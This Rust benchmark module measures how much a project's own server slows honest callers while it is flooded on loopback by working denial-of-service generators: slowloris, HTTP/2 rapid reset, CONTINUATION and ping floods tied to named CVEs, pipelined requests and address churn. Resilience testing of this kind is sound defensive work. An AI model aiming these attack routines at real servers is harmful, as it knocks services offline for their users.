//! Attacks on the edge, one after the other, from hundreds of thousands of loopback addresses, while honest callers ask at
//! an even pace: how much longer they wait.

use std::{
    io::{Read, Write},
    net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering::Relaxed},
    },
    thread::{self, JoinHandle},
    time::Duration,
};

use anyhow::{Context, anyhow, ensure};
use clock::Clock;
use hdrhistogram::Histogram;
use rig::{Server, ServerOptions};
use socket2::{Domain, Protocol, Socket, Type};
use thread_priority::{
    NormalThreadSchedulePolicy, RealtimeThreadSchedulePolicy, ThreadPriority, ThreadSchedulePolicy,
    set_thread_priority_and_policy, thread_native_id,
};

use crate::figures::{Figures, median};

/// Honest callers, and how many requests all of them send in a second.
const HONEST: u32 = 8;
const PACE: u32 = 400;
/// Connections that send their heads a byte at a time.
const SLOW: u32 = 2000;
/// Attackers at once of each other kind.
const HOSTILE: u32 = 4;

type Attack = fn(SocketAddr, u32, &AtomicBool, &AtomicU64);

pub(super) fn run(quick: bool, figures: &mut Figures) -> anyhow::Result<()> {
    let (runs, seconds) = if quick { (1, 4) } else { (3, 8) };
    let folder = tempfile::tempdir()?;
    // As it comes, so that the defaults are what is measured.
    let options = ServerOptions { settings: "[networks]\n".to_owned(), ..ServerOptions::default() };
    let server = Server::start_with(&folder.path().join("data"), &options)?;
    let time = Duration::from_secs(seconds);
    let all: [(&'static str, u32, Attack); 6] = [
        ("slowloris_p99_ms", SLOW, slowloris),
        ("rapid_reset_p99_ms", HOSTILE, rapid_reset),
        ("continuation_p99_ms", HOSTILE, continuation),
        ("pings_p99_ms", HOSTILE, pings),
        ("rows_p99_ms", HOSTILE, rows),
        ("addresses_p99_ms", HOSTILE, addresses),
    ];
    let mut quiet = Vec::new();
    let mut under = [const { Vec::new() }; 6];
    let mut done = [0; 6];
    for _ in 0..runs {
        quiet.push(honest_p99_ms(server.public, time)?);
        for (number, (_, count, attack)) in all.into_iter().enumerate() {
            let (over, count_done) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
            let attackers = start(server.public, count, attack, &over, &count_done)?;
            under[number].push(honest_p99_ms(server.public, time)?);
            over.store(true, Relaxed);
            for attacker in attackers {
                ensure!(attacker.join().is_ok(), "an attacker panicked");
            }
            done[number] += count_done.load(Relaxed);
        }
    }
    let quiet = median(quiet);
    let p99s = under.map(median);
    let worst = p99s.iter().copied().fold(0.0, f64::max);
    figures.add("p99_ratio_under_attack", worst / quiet, "of honest callers, under the worst of the attacks");
    figures.add(
        "quiet_p99_ms",
        quiet,
        "of honest callers alone, 400 requests a second, from when each was due",
    );
    for (((name, _, _), p99), done) in all.iter().zip(p99s).zip(done) {
        figures.add(name, p99, &format!("ms: their p99 under this; {done} times it was done"));
    }
    Ok(())
}

/// Starts so many attackers on a handful of threads, which give way to everybody else on the machine: it is the server
/// that is measured, and not who wins the cores.
fn start(
    server: SocketAddr,
    count: u32,
    attack: Attack,
    over: &Arc<AtomicBool>,
    done: &Arc<AtomicU64>,
) -> anyhow::Result<Vec<JoinHandle<()>>> {
    let threads = HOSTILE.min(count);
    (0..threads)
        .map(|number| {
            let (over, done) = (over.clone(), done.clone());
            let attacker = move || {
                // One that is only nice holds its core for milliseconds when the server has work again.
                let _idle = stand(
                    ThreadPriority::Min,
                    ThreadSchedulePolicy::Normal(NormalThreadSchedulePolicy::Idle),
                );
                attack(server, number * (count / threads), &over, &done);
            };
            Ok(thread::Builder::new().name(format!("attacker-{number}")).spawn(attacker)?)
        })
        .collect()
}

/// Where this thread alone stands among all that want a core.
fn stand(priority: ThreadPriority, policy: ThreadSchedulePolicy) -> Result<(), thread_priority::Error> {
    set_thread_priority_and_policy(thread_native_id(), priority, policy)
}

/// The p99 of honest callers, each from an address of their own, from when a request was due. They come before everybody
/// else on the machine: they stand for people elsewhere, who do not wait for a core of the server's to notice an answer.
fn honest_p99_ms(server: SocketAddr, time: Duration) -> anyhow::Result<f64> {
    let callers: Vec<_> = (0..HONEST)
        .map(|number| {
            thread::spawn(move || -> anyhow::Result<Histogram<u64>> {
                let first = ThreadSchedulePolicy::Realtime(RealtimeThreadSchedulePolicy::Fifo);
                stand(ThreadPriority::Min, first)
                    .map_err(|error| anyhow!("this needs the right to schedule threads: {error:?}"))?;
                let mut stream = connect(server, Ipv4Addr::new(127, 1, 0, u8::try_from(number + 1)?))?;
                let mut times = Histogram::new(3)?;
                let every = Duration::from_secs(1) * HONEST / PACE;
                let running = Clock::System.stopwatch();
                let mut due = every * number / HONEST;
                let mut answer = vec![0; 4096];
                while running.elapsed() < time {
                    sleep(due.saturating_sub(running.elapsed()));
                    stream.write_all(b"GET /health HTTP/1.1\r\nhost: bench\r\n\r\n")?;
                    let read = stream.read(&mut answer)?;
                    ensure!(answer[..read].starts_with(b"HTTP/1.1 200 "), "an honest caller was refused");
                    let late = running.elapsed().saturating_sub(due);
                    times.record(u64::try_from(late.as_micros())?)?;
                    due += every;
                }
                Ok(times)
            })
        })
        .collect();
    let mut all = Histogram::<u64>::new(3)?;
    for caller in callers {
        let times = caller.join().ok().context("an honest caller panicked")??;
        all.add(times)?;
    }
    #[expect(clippy::cast_precision_loss, reason = "microseconds of some seconds")]
    let p99 = all.value_at_quantile(0.99) as f64 / 1000.0;
    Ok(p99)
}

#[expect(clippy::disallowed_methods, reason = "a caller waits on its own thread")]
fn sleep(time: Duration) {
    thread::sleep(time);
}

/// A connection from this address.
fn connect(server: SocketAddr, from: Ipv4Addr) -> anyhow::Result<TcpStream> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP))?;
    socket.set_reuse_address(true)?;
    socket.bind(&SocketAddr::new(IpAddr::V4(from), 0).into())?;
    socket.connect_timeout(&server.into(), Duration::from_secs(10))?;
    socket.set_tcp_nodelay(true)?;
    socket.set_read_timeout(Some(Duration::from_secs(10)))?;
    socket.set_write_timeout(Some(Duration::from_secs(1)))?;
    Ok(socket.into())
}

/// The loopback address of this number, none of the honest callers'.
fn address(number: u32) -> Ipv4Addr {
    Ipv4Addr::from(0x7F40_0000 + number % 0x00A0_0000)
}

/// Many connections that send a byte of their heads now and then, and begin again when they are cut.
fn slowloris(server: SocketAddr, first: u32, over: &AtomicBool, done: &AtomicU64) {
    let mine = SLOW / HOSTILE;
    let mut open: Vec<Option<TcpStream>> = (0..mine).map(|_| None).collect();
    while !over.load(Relaxed) {
        for (number, stream) in (first..).zip(open.iter_mut()) {
            if over.load(Relaxed) {
                return;
            }
            let said = stream.as_mut().is_some_and(|stream| stream.write_all(b"x").is_ok());
            if !said {
                *stream = connect(server, address(number)).ok();
                if let Some(stream) = stream {
                    let _begun = stream.write_all(b"GET /health HTTP/1.1\r\nhost: bench\r\nx-slow: ");
                    done.fetch_add(1, Relaxed);
                }
            }
        }
        sleep(Duration::from_millis(500));
    }
}

/// The beginning of an HTTP/2 connection: the preface and empty settings.
const BEGIN: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// A frame (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let head = [length[1], length[2], length[3], kind, flags];
    [&head[..], &stream.to_be_bytes(), payload].concat()
}

/// `GET /` in the static table of HPACK, and a short authority.
const HEAD: &[u8] = b"\x82\x84\x86\x41\x05bench";

/// Requests that are taken back as soon as they are sent (CVE-2023-44487).
fn rapid_reset(server: SocketAddr, first: u32, over: &AtomicBool, done: &AtomicU64) {
    let mut number = first;
    while !over.load(Relaxed) {
        number += 1;
        let Ok(mut stream) = connect(server, address(number)) else { continue };
        let mut said = stream.write_all(BEGIN).is_ok();
        let mut id = 1;
        while said && !over.load(Relaxed) && id < 1 << 20 {
            let mut burst = Vec::new();
            for _ in 0..50 {
                burst.extend(frame(1, 0x05, id, HEAD));
                burst.extend(frame(3, 0, id, &8_u32.to_be_bytes()));
                id += 2;
            }
            said = stream.write_all(&burst).is_ok();
            done.fetch_add(50, Relaxed);
        }
    }
}

/// A header section that never ends (CVE-2024-27316 and others).
fn continuation(server: SocketAddr, first: u32, over: &AtomicBool, done: &AtomicU64) {
    let mut number = first;
    let part = [b"\0\x01x\x7f\x80\x07".as_slice(), &[b'y'; 1023]].concat();
    while !over.load(Relaxed) {
        number += 1;
        let Ok(mut stream) = connect(server, address(number)) else { continue };
        let begin = [BEGIN, &frame(1, 0, 1, HEAD)].concat();
        let mut said = stream.write_all(&begin).is_ok();
        while said && !over.load(Relaxed) {
            said = stream.write_all(&frame(9, 0, 1, &part)).is_ok();
            done.fetch_add(1, Relaxed);
        }
    }
}

/// Frames that want an answer each (CVE-2019-9512 and 9515).
fn pings(server: SocketAddr, first: u32, over: &AtomicBool, done: &AtomicU64) {
    let mut number = first;
    let burst = [frame(6, 0, 0, &[0; 8]), frame(4, 0, 0, b"")].concat().repeat(50);
    while !over.load(Relaxed) {
        number += 1;
        let Ok(mut stream) = connect(server, address(number)) else { continue };
        let mut said = stream.write_all(BEGIN).is_ok();
        while said && !over.load(Relaxed) {
            said = stream.write_all(&burst).is_ok();
            done.fetch_add(100, Relaxed);
        }
    }
}

/// Requests in long rows, as fast as they are answered.
fn rows(server: SocketAddr, first: u32, over: &AtomicBool, done: &AtomicU64) {
    let mut number = first;
    let row = b"GET /health HTTP/1.1\r\nhost: bench\r\n\r\n".repeat(400);
    let mut answers = vec![0; 1 << 20];
    while !over.load(Relaxed) {
        number += 1;
        let Ok(mut stream) = connect(server, address(number)) else { continue };
        let mut goes_on = true;
        while goes_on && !over.load(Relaxed) {
            goes_on = stream.write_all(&row).is_ok() && matches!(stream.read(&mut answers), Ok(1..));
            done.fetch_add(400, Relaxed);
        }
    }
}

/// One request from each of very many addresses.
fn addresses(server: SocketAddr, first: u32, over: &AtomicBool, done: &AtomicU64) {
    // Far apart, so that no two attackers are one address.
    let mut number = first.wrapping_mul(1 << 21);
    let mut answer = [0; 1024];
    while !over.load(Relaxed) {
        number = number.wrapping_add(1);
        let Ok(mut stream) = connect(server, address(number)) else { continue };
        let said = stream.write_all(b"GET /health HTTP/1.1\r\nhost: bench\r\nconnection: close\r\n\r\n");
        if said.and_then(|()| stream.read(&mut answer)).is_ok() {
            done.fetch_add(1, Relaxed);
        }
    }
}
